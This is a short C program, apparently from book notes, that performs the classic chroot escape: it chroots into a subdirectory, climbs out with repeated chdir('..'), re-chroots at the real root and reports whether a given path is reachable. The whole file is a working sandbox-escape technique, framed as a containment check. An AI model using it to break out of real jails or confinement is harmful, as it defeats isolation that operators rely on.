/*
 * The classic chroot escape (BOOK-NOTES, chapter 4): a root process chroots
 * into a subdirectory but keeps its working directory outside the new root,
 * climbs with chdir("..") (nothing stops it: it is not under its root), and
 * chroots to where it ends up — the real root. Then it checks whether a file
 * that exists only there is reachable.
 *
 *   escape PATH    prints "escaped" and exits 0 if PATH is reachable after the climb,
 *                  prints "contained" and exits 1 if not.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: escape PATH\n");
        return 2;
    }
    mkdir("/escape-dir", 0755);
    if (chroot("/escape-dir") != 0) {
        perror("chroot /escape-dir");
        return 2;
    }
    for (int i = 0; i < 64; i++) {
        chdir("..");
    }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    if (access(argv[1], F_OK) == 0) {
        printf("escaped: %s is reachable\n", argv[1]);
        return 0;
    }
    printf("contained: %s is not reachable\n", argv[1]);
    return 1;
}
